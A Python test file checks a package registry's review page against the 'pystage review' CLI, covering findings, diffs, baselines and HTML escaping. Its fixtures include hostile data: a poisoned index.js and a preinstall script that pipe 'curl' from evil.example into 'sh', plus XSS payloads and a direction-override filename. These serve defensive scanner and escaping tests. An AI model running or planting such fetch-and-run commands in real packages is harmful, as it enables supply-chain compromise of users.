"""The review page runs ``pystage review``'s engine on the registry's own storage: the
item page shows the same findings, baseline, file changes and package.json changes as
``pystage review --json`` for the same staged version, a readable diff of changed text,
and hostile names from the package as text; the list shows the severity counts once
the background review has run."""

from __future__ import annotations

import html
import json
import re
import time

import pytest
from helpers import WebClient

INDEX = "module.exports = function add(a, b) {\n  return a + b;\n};\n"
POISONED = INDEX + "require('child_process').exec('curl -s https://evil.example/p | sh');\n"


@pytest.fixture
def site(tmp_path, registry_server, run_pystage):
    alice = registry_server.add_user("alice", "alice password")
    npmrc = registry_server.write_npmrc(tmp_path / "npmrc", alice)

    def review_json(stage_id: str) -> dict:
        result = run_pystage(
            "review",
            stage_id,
            "--json",
            "--fail-on",
            "never",
            "--registry",
            registry_server.url,
            "--userconfig",
            npmrc,
            cwd=tmp_path,
        )
        assert result.returncode == 0, result.stderr
        return json.loads(result.stdout)

    browser = WebClient(registry_server).signed_in(alice)
    return registry_server, alice, browser, review_json


def findings_on(page: str) -> list[tuple[str, str]]:
    """(rule, path) of every finding the item page lists."""
    return [
        (html.unescape(rule), html.unescape(path))
        for rule, path in re.findall(
            r'<span class="rule">(.*?)</span> <code class="path">(.*?)</code>', page
        )
    ]


def test_the_item_page_shows_what_pystage_review_finds(site):
    server, alice, browser, review_json = site
    server.publish(alice, "adder", "1.0.0", files={"index.js": INDEX, "README.md": "# adder\n"})
    server.publish(alice, "adder", "1.1.0", files={"index.js": INDEX, "README.md": "# adder\n"})
    stage_id = server.stage(
        alice,
        "adder",
        "1.1.1",
        files={"index.js": POISONED, "install.js": "// new\n"},
        manifest={"scripts": {"postinstall": "node install.js"}, "dependencies": {"lodash": "^4"}},
    )
    page = browser.get(f"stage/{stage_id}")
    assert page.status_code == 200
    cli = review_json(stage_id)
    assert cli["baseline"] == "1.1.0"
    assert "Compared with <strong>adder@1.1.0</strong>" in page.text
    # every finding the CLI reports is on the page, and nothing else
    assert sorted(findings_on(page.text)) == sorted(
        (f["rule"], f["path"] or "None") for f in cli["findings"]
    )
    assert any(f["severity"] == "high" for f in cli["findings"])
    assert '<span class="sev high">' in page.text
    # files: added, removed and changed, each named in the changes table
    changes = page.text.split('<table class="changes">', 1)[1].split("</table>", 1)[0]
    assert re.search(r"<td>added</td><td><code>install\.js</code>", changes)
    assert re.search(r"<td>removed</td><td><code>README\.md</code>", changes)
    assert re.search(r"<td>changed</td><td><code>index\.js</code>", changes)
    # package.json, field by field
    assert "<code>scripts.postinstall</code>" in page.text
    assert "<code>dependencies.lodash</code>" in page.text
    # the appended line, as diff text
    diffs = dict(
        re.findall(
            r'<summary[^>]*><code>(.*?)</code>.*?<pre class="diff">(.*?)</pre>', page.text, re.S
        )
    )
    added = re.findall(r'<span class="add">(.*?)</span>\n', diffs["index.js"])
    assert [html.unescape(line) for line in added] == ["+" + POISONED.splitlines()[-1]]


def test_with_nothing_to_compare_with_every_file_counts_as_added(site):
    server, alice, browser, review_json = site
    # a back-port below every published version, on a tag of its own: no baseline
    server.publish(alice, "backport", "2.0.0", files={"index.js": INDEX})
    stage_id = server.stage(alice, "backport", "0.9.0", files={"index.js": INDEX}, tag="legacy")
    page = browser.get(f"stage/{stage_id}")
    assert review_json(stage_id)["baseline"] is None
    assert "nothing (no published version yet)" in page.text
    assert re.search(r"<td>added</td><td><code>index\.js</code>", page.text)


def test_hostile_names_in_the_review_are_shown_as_text(site):
    server, alice, browser, _ = site
    server.publish(alice, "hostile-review", "1.0.0", files={"index.js": INDEX})
    evil = "<img src=x onerror=alert(1)>\u202e.js"
    stage_id = server.stage(
        alice,
        "hostile-review",
        "1.0.1",
        files={
            "index.js": INDEX.replace("a + b", "a + b /* <script>alert(2)</script> */"),
            evil: "x\n",
        },
        manifest={"scripts": {"postinstall": "<b>bold</b>"}},
    )
    page = browser.get(f"stage/{stage_id}").text
    assert "<img" not in page and "<script>alert" not in page and "<b>bold" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert '<span class="ctl">U+202E</span>' in page  # the direction override is visible


def test_the_list_shows_severity_counts_once_reviewed(site):
    server, alice, browser, review_json = site
    server.publish(alice, "counted", "1.0.0", files={"index.js": INDEX})
    stage_id = server.stage(
        alice,
        "counted",
        "1.0.1",
        files={"index.js": INDEX},
        manifest={"scripts": {"preinstall": "curl -s https://evil.example/x | sh"}},
    )
    high = sum(f["severity"] == "high" for f in review_json(stage_id)["findings"])
    assert high >= 1
    deadline = time.monotonic() + 20
    while True:  # the first visit queues the review; a later one shows its counts
        row = browser.get("?package=counted").text
        if f'<span class="sev high">{high} high</span>' in row:
            break
        assert time.monotonic() < deadline, row
        time.sleep(0.2)
